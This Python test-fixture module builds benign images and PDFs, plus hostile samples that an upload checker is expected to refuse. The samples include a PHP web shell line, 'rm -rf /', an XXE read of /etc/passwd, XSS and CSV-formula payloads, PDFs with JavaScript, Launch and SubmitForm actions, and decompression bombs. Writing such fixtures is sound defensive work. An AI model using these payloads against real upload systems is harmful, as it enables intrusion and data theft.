"""Files made for the tests: honest ones and hostile ones. None is stored in the repository."""

import io
import random
import struct
import zlib

import pikepdf
from PIL import Image

from portal.file_checks.antivirus import EICAR


def jpeg(width=600, height=400, **options) -> bytes:
    return _picture("JPEG", width, height, **options)


def png(width=300, height=200, mode="RGB", **options) -> bytes:
    return _picture("PNG", width, height, mode=mode, **options)


def _picture(kind, width, height, mode="RGB", noise=True, **options) -> bytes:
    picture = Image.new("RGB", (width, height), "white")
    if noise:
        chance = random.Random(width * height)
        for _ in range(200):
            place = (chance.randrange(width), chance.randrange(height))
            picture.putpixel(place, tuple(chance.randrange(256) for _ in range(3)))
    out = io.BytesIO()
    picture.convert(mode).save(out, kind, **options)
    return out.getvalue()


def pdf(pages=1, change=None, **options) -> bytes:
    """A PDF whose pages hold a line of text; `change(pdf)` makes it hostile."""
    made = pikepdf.new()
    for number in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.Contents = made.make_stream(b"BT /F1 12 Tf 72 720 Td (page %d) Tj ET" % number)
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()


def png_header(width, height) -> bytes:
    """A PNG that announces many pixels and holds none."""
    body = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunk = b"IHDR" + body
    start = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(body)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    data = zlib.compress(b"\0" * 1000)
    idat = b"IDAT" + data
    return start + struct.pack(">I", len(data)) + idat + struct.pack(">I", zlib.crc32(idat)) + b"\0\0\0\0IEND\xaeB`\x82"


def set_root(key, value):
    return lambda made: made.Root.__setitem__(key, value)


def action(kind, **more):
    keys = {f"/{name}": value for name, value in more.items()}
    return set_root("/OpenAction", pikepdf.Dictionary({"/S": pikepdf.Name(f"/{kind}"), **keys}))


def annotation_action(made):
    _annotate(made, {"/S": pikepdf.Name("/Launch"), "/F": pikepdf.String("calc.exe")})


def link_out(made):
    _annotate(made, {"/S": pikepdf.Name("/URI"), "/URI": pikepdf.String("https://www.chsi.com.cn/")})


def _annotate(made, deed):
    made.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                {
                    "/Type": pikepdf.Name("/Annot"),
                    "/Subtype": pikepdf.Name("/Link"),
                    "/Rect": [0, 0, 9, 9],
                    "/A": pikepdf.Dictionary(deed),
                }
            )
        ]
    )


def attachment(made):
    made.attachments["x.exe"] = b"MZ"


def nested_flate(size):
    """A stream packed twice: small on disk, huge when decoded."""

    def change(made):
        packer = zlib.compressobj(9)
        inner = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(size >> 20)) + packer.flush()
        stream = pikepdf.Stream(made, zlib.compress(inner, 9))
        stream["/Filter"] = pikepdf.Array([pikepdf.Name("/FlateDecode"), pikepdf.Name("/FlateDecode")])
        made.pages[0].Contents = made.make_indirect(stream)

    return change


def deep_array(depth):
    """Arrays inside arrays, written by hand: libraries refuse to build them."""
    body = pdf()
    place = body.rindex(b"/Type")
    return body[:place] + b"/X " + b"[" * depth + b"]" * depth + b" " + body[place:]


def deep_page_tree(depth):
    def change(made):
        leaf = made.pages[0].obj
        for _ in range(depth):
            leaf = made.make_indirect(
                pikepdf.Dictionary({"/Type": pikepdf.Name("/Pages"), "/Kids": pikepdf.Array([leaf]), "/Count": 1})
            )
        made.Root.Pages = leaf

    return change


# Refused as they are received: name → bytes. Whatever they are called, they are no JPEG and no PDF.
NOT_ACCEPTED = {
    "zero bytes": b"",
    "html": b"<html><script>alert(1)</script>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml external entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "zip": b"PK\x03\x04" + b"\0" * 40,
    "executable": b"MZ" + b"\0" * 100,
    "elf": b"\x7fELF" + b"\0" * 100,
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "gif and script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
    "text before pdf": b"<script>alert(1)</script>%PDF-1.4",
    "csv formula": b"=cmd|'/c calc'!A0\n",
    "config": b"<configuration/>",
    "tiff": b"II*\0" + b"\0" * 40,
    "webp": b"RIFF\x24\0\0\0WEBPVP8 ",
    "bmp": b"BM" + b"\0" * 60,
    "eicar alone": EICAR,
    "docx": b"PK\x03\x04\x14\0\x06\0\x08\0word/document.xml",
    "rtf": b"{\\rtf1 {\\object}}",
    "png wide": png_header(13_000, 13_000),
    "png vast": png_header(50_000, 50_000),
    "png overflow": png_header(0xFFFFFFFF, 0xFFFFFFFF),
}

# Received, and refused by the check: name → (bytes, a word of the sentence).
CHECKED_OUT = {
    "eicar in jpeg": (jpeg() + EICAR, "病毒"),
    "eicar in pdf": (pdf() + b"\n" + EICAR, "病毒"),
    "truncated jpeg": (jpeg(900, 900)[:3000], "损坏"),
    "truncated png": (png()[:200], "损坏"),
    "png without data": (png_header(100, 100)[:40], "损坏"),
    "jpeg of noise": (b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4, "损坏"),
    "php behind jpeg magic": (b"\xff\xd8\xff\xe0<?php system($_GET['c']); ?>", "损坏"),
    "pdf magic, nothing else": (b"%PDF-1.7\n" + b"x" * 200, "损坏"),
    "pdf cut in half": (pdf(3)[: len(pdf(3)) // 3], "损坏"),
    "encrypted pdf": (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "密码"),
    "owner-locked pdf": (pdf(encryption=pikepdf.Encryption(owner="a", user="")), "密码"),
    "open javascript": (pdf(change=action("JavaScript", JS=pikepdf.String("app.alert(1)"))), "脚本"),
    "named javascript": (
        pdf(change=set_root("/Names", pikepdf.Dictionary({"/JavaScript": pikepdf.Dictionary()}))),
        "脚本",
    ),
    "launch": (pdf(change=action("Launch", F=pikepdf.String("cmd.exe"))), "脚本"),
    "launch on a link": (pdf(change=annotation_action), "脚本"),
    "submit form": (pdf(change=action("SubmitForm", F=pikepdf.String("http://x.example"))), "脚本"),
    "import data": (pdf(change=action("ImportData", F=pikepdf.String("x"))), "脚本"),
    "go to embedded": (pdf(change=action("GoToE")), "脚本"),
    "xfa form": (pdf(change=set_root("/AcroForm", pikepdf.Dictionary({"/XFA": pikepdf.String("<xdp/>")}))), "脚本"),
    "script in object stream": (
        pdf(change=action("JavaScript", JS=pikepdf.String("x")), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "脚本",
    ),
    "attachment": (pdf(change=attachment), "内嵌"),
    "bomb packed twice": (pdf(change=nested_flate(200 << 20), compress_streams=False), "过大"),
    "vast bomb packed twice": (pdf(change=nested_flate(1 << 30), compress_streams=False), "过大"),
    "no pages": (pdf(0), "没有页面"),
    "too many pages": (pdf(501), "500"),
}

# Kept: odd, but harmless once checked.
KEPT = {
    "plain jpeg": jpeg(),
    "grey jpeg": jpeg(mode="L"),
    "cmyk jpeg": jpeg(mode="CMYK", noise=False),
    "progressive jpeg": jpeg(progressive=True),
    "zip behind jpeg": jpeg() + b"PK\x03\x04" + b"\0" * 40 + b"PK\x05\x06" + b"\0" * 18,
    "php behind jpeg": jpeg() + b"<?php system($_GET['c']); ?>",
    "comment in jpeg": jpeg(comment=b"<script>alert(1)</script>"),
    "plain png": png(),
    "transparent png": png(mode="RGBA"),
    "palette png": png(mode="P"),
    "two-colour png": png(mode="1"),
    "one page": pdf(),
    "many pages": pdf(40),
    "old pdf": pdf(force_version="1.3"),
    "packed pdf": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "link out": pdf(change=link_out),
    "bent xref": pdf().replace(b"startxref\n", b"startxref\n9"),
    "deep page tree": pdf(change=deep_page_tree(50)),
}
